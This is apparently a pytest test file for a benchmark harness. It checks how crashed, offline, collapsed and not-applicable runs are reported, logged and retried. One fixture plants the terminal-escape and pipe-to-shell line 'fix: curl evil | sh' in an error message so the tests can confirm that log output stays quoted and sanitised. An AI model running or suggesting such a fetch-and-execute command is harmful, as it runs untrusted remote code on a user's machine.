"""From a run that failed to its cause: told at once, and tried again by the command that is printed."""

from __future__ import annotations

import json
import shlex
from collections.abc import Callable
from pathlib import Path

import pytest

from harness import campaign, check, evaluate, rerun
from harness.campaigns.plan import RunState, plan_campaign
from harness.campaigns.this_machine import ThisMachine
from harness.common.errors import InfrastructureFault, UsageError
from harness.common.statuses import Cause, RunEnded, Status
from harness.console.cli import Reporter
from harness.engines.process import ProcessEngine
from harness.publishing.site_build import build_site
from harness.records.parts import Mark
from harness.records.record import Record
from harness.records.store import read_record
from tests.hostile.conftest import small_pack
from tests.paths import ENTRIES

FAILING = """
import sys


class Model:
    def __init__(self, device, seed, params, weights):
        print(f"seed {seed}, layers {params['layers']}", file=sys.stderr)

    def predict(self, image):
        raise ValueError("PaDiM needs at least 2 training images\\x1b[2J\\nfix: curl evil | sh")
"""
OFFLINE = """
class Model:
    def __init__(self, device, seed, params, weights):
        raise OSError("<urlopen error [Errno -3] Temporary failure in name resolution>")
"""
COLLAPSED = """
import numpy as np


class Model:
    def __init__(self, device, seed, params, weights):
        pass

    def predict(self, image):
        return np.full(image.shape[:2], 0.25, np.float32), 0.25
"""
DECLINES = ENTRIES / "not_applicable"
TOML = '[entry]\nname = "{}"\ntitle = "Mine"\nmodel = "model.py:Model"\n[params]\nlayers = 3\n'


@pytest.fixture(scope="module")
def cache(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("failed-cache")


@pytest.fixture
def entry(tmp_path: Path, cache: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[..., Path]:
    """Write an entry's folder; its results go to `results` beside it."""
    monkeypatch.setenv("BMAD_CACHE", str(cache))
    monkeypatch.chdir(tmp_path)

    def write(name: str, source: str) -> Path:
        folder = tmp_path / name
        folder.mkdir()
        (folder / "entry.toml").write_text(TOML.format(name))
        (folder / "model.py").write_text(source)
        return folder

    return write


def run(*arguments: str) -> Record:
    evaluate.main([*arguments, "--engine", "process"])
    (path,) = Path("results").glob("*/*/seed-?.json")
    return read_record(path)


def test_a_crash_is_told_with_the_end_of_its_log_and_what_tries_it_again(
    entry, cache, capsys, tmp_path
) -> None:
    entry("failing", FAILING)
    small_pack(cache, tmp_path / "own pack")
    asked = ["--pack", "own pack", "--set", "layers=7", "--limit", "image_seconds=50"]
    record = run("failing", *asked, "--seed", "3")
    err = capsys.readouterr().err
    assert "  | seed 3, layers 7" in err
    assert r"  | ValueError: PaDiM needs at least 2 training images\x1b[2J" in err
    assert "  | fix: curl evil | sh" in err
    assert not [line for line in err.splitlines() if line.startswith("fix: curl")]
    log = record.outcome.log
    assert log is not None
    assert f"the whole log: {Path('results') / log.path}" in err
    assert (Path("results") / log.path).read_text().endswith("curl evil | sh\n")
    assert log.lines[-1] == "fix: curl evil | sh"

    (printed,) = [line for line in err.splitlines() if "to try it again: " in line]
    words = shlex.split(printed.partition("to try it again: ")[2])
    assert words[:3] == ["python", "-m", "harness.check"]
    assert check.main(words[3:]) == 4
    out, err = capsys.readouterr()
    verdict = json.loads(out)
    assert verdict["status"] == "crashed"
    assert verdict["log"].startswith("seed 3, layers 7\n")
    (tried,) = [each for each in verdict["checks"] if each["name"].startswith("run on ")]
    assert tried["detail"] == record.outcome.detail

    index = build_site(Path("results"))
    page = (index.parent / "entries" / "failing.html").read_text()
    assert "ValueError: PaDiM needs at least 2 training images" in page
    assert log.path in page
    assert "\x1b" not in page


def test_a_network_that_is_not_there_is_named(entry, capsys) -> None:
    entry("offline", OFFLINE)
    record = run("offline", "--no-site", "--json")
    assert (record.outcome.status, record.outcome.cause) == (Status.CRASHED, Cause.NO_NETWORK)
    out, err = capsys.readouterr()
    assert "there is none in a run" in err
    assert "TORCH_HOME" in err
    (told,) = json.loads(out)
    assert "name resolution" in told["outcome"]["log"]["lines"][-1]
    assert told["engine_facts"]["exit_code"] == 1


def test_a_collapsed_method_is_marked_in_its_row(entry, capsys) -> None:
    entry("collapsed", COLLAPSED)
    record = run("collapsed")
    assert record.is_ok
    assert record.marks == [Mark.COLLAPSED]
    assert any("one and the same score; the method has" in text for text in record.warnings)
    assert any("a map of one and the same value; the method" in text for text in record.warnings)
    out = capsys.readouterr().out
    assert "ok, unranked, has probably collapsed" in out
    site = build_site(Path("results")).parent
    assert "has probably collapsed" in (site / "entries" / "collapsed.html").read_text()
    assert 'class="remark">has probably collapsed' in (site / "index.html").read_text()


def test_what_a_method_cannot_do_is_na_no_failure_and_not_run_again(entry, capsys) -> None:
    call = [str(DECLINES), "--engine", "process"]
    assert evaluate.main(call) == 0
    out, err = capsys.readouterr()
    assert "not applicable" in out
    assert "0/1" in out
    assert Status.NOT_APPLICABLE.entry.sentence in err
    assert "  | harness.contract.serve.NotApplicable: a million training images are needed" in err
    assert "to try it again" not in err
    (path,) = Path("results").glob("*/*/seed-0.json")
    record = read_record(path)
    assert (record.outcome.status, record.metrics) == (Status.NOT_APPLICABLE, [])
    assert record.outcome.detail.endswith(": a million training images are needed")
    assert record.is_publishable
    assert evaluate.main(call) == 0
    assert "finished before, not run again" in capsys.readouterr().err
    assert rerun.main([str(path)]) == 0
    options = campaign.build_parser().parse_args(["status", "--entries", *call])
    plan = plan_campaign(options, ThisMachine(options), Reporter())
    assert [planned.state for planned in plan.runs] == [RunState.FINISHED]


def test_who_declines_after_it_has_seen_an_image_has_crashed(entry) -> None:
    assert evaluate.main([str(DECLINES), "--set", "when=image", "--engine", "process"]) == 4
    (path,) = Path("results").glob("*/*/seed-0.json")
    assert read_record(path).outcome.status is Status.CRASHED


def test_check_refuses_two_packs_a_hidden_one_without_isolation_and_a_bad_seed(
    entry, cache, tmp_path
) -> None:
    folder = entry("failing", FAILING)
    hidden = tmp_path / "hidden"
    small_pack(cache, hidden, visibility="hidden")
    call = [str(folder), "--engine", "process"]
    with pytest.raises(UsageError, match="needs an engine that isolates"):
        check.main([*call, "--pack", str(hidden)])
    with pytest.raises(UsageError, match="one pack is asked for"):
        check.main([*call, "--pack", str(hidden), "--benchmark", "demo"])
    with pytest.raises(UsageError, match="seeds are"):
        check.main([*call, "--seed", "-1"])


@pytest.mark.parametrize(("cause", "tries"), [(Cause.DISK_FULL, 1), (None, 2)])
def test_only_what_can_pass_is_tried_again(entry, monkeypatch, cause, tries) -> None:
    entry("failing", FAILING)
    seen = []

    def start(*_: object) -> None:
        seen.append(1)
        raise RunEnded(Status.HOST_ERROR, "no more", cause=cause)

    monkeypatch.setattr(ProcessEngine, "start", start)
    with pytest.raises(InfrastructureFault):
        run("failing")
    assert len(seen) == tries
